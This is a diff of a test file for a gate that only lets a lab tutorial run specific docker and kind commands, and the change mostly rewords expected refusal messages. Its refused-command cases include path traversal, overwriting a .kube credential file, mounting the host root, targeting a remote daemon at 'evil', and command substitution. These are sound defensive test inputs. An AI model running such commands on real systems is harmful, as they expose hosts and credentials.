@@ -40,27 +40,27 @@ describe('the gate on prepared image archives', () => {
 	])('allows %s for koornacht', (command) => expect(verdict(command, koornacht), command).toEqual({ok: true}));
 
 	it.each([
-		[`docker load -i /tmp/other.tar`, /not one of the tool's image archives/],
-		[`docker load -i ${IMAGES}/../../evil.tar`, /not one of the tool's image archives/],
-		[`docker load -i images/lab-images.tar`, /not one of the tool's image archives/],
+		[`docker load -i /tmp/other.tar`, /not one of the tutorial's image archives/],
+		[`docker load -i ${IMAGES}/../../evil.tar`, /not one of the tutorial's image archives/],
+		[`docker load -i images/lab-images.tar`, /not one of the tutorial's image archives/],
 		[`docker load --input ${ARCHIVE}`, /not a Docker command the lab runs/],
 		[`docker load -i ${ARCHIVE} extra`, /not a Docker command the lab runs/],
 		[`docker load < ${ARCHIVE}`, /not a Docker command the lab runs/],
-		[`docker save -o ${USB} ${clusterRefs[0]}`, /not one of the tool's image archives/],
+		[`docker save -o ${USB} ${clusterRefs[0]}`, /not one of the tutorial's image archives/],
 		[`docker save -o /home/ann/.kube/config ${clusterRefs[0]}`, /\.kube/],
 		[`docker save -o ${COPY} alpine:latest`, /not an image the lab pins/],
 		[`docker save -o ${COPY} ${clusterRefs[0]} busybox`, /not an image the lab pins/],
 		[`docker save -o ${COPY}`, /not a Docker command the lab runs/],
-		[`docker save ${clusterRefs[0]} > ${COPY}`, /writes a file/],
+		[`docker save ${clusterRefs[0]} > ${COPY}`, /not a Docker command the lab runs \(.*`docker save -o FILE IMAGE…`/],
 		[`docker run --rm -v /:/host alpine`, /not a Docker command the lab runs/],
 		[`docker -H tcp://evil:2375 load -i ${ARCHIVE}`, /not a Docker command the lab runs/],
 		[`docker ps`, /not a Docker command the lab runs/],
-		[`docker load -i "$FILE"`, /expansion/],
-		[`docker load -i $(echo ${ARCHIVE})`, /expansion/],
+		[`docker load -i "$FILE"`, /comes from a variable or `\$\(…\)`/],
+		[`docker load -i $(echo ${ARCHIVE})`, /comes from a variable or `\$\(…\)`/],
 	])('refuses %s', (command, reason) => refusedFor(command, lab, reason));
 
 	it.each([
-		[`kind load image-archive /tmp/other.tar --name koornacht`, /not one of the tool's image archives/],
+		[`kind load image-archive /tmp/other.tar --name koornacht`, /not one of the tutorial's image archives/],
 		[`kind load image-archive ${COPY} ${ARCHIVE} --name koornacht`, /exactly one archive/],
 		[`kind load image-archive ${COPY} --name kind`, /not a lab cluster/],
 		[`kind create cluster --name koornacht --image kindest/node:v1.34.0`, /pinned node image/],
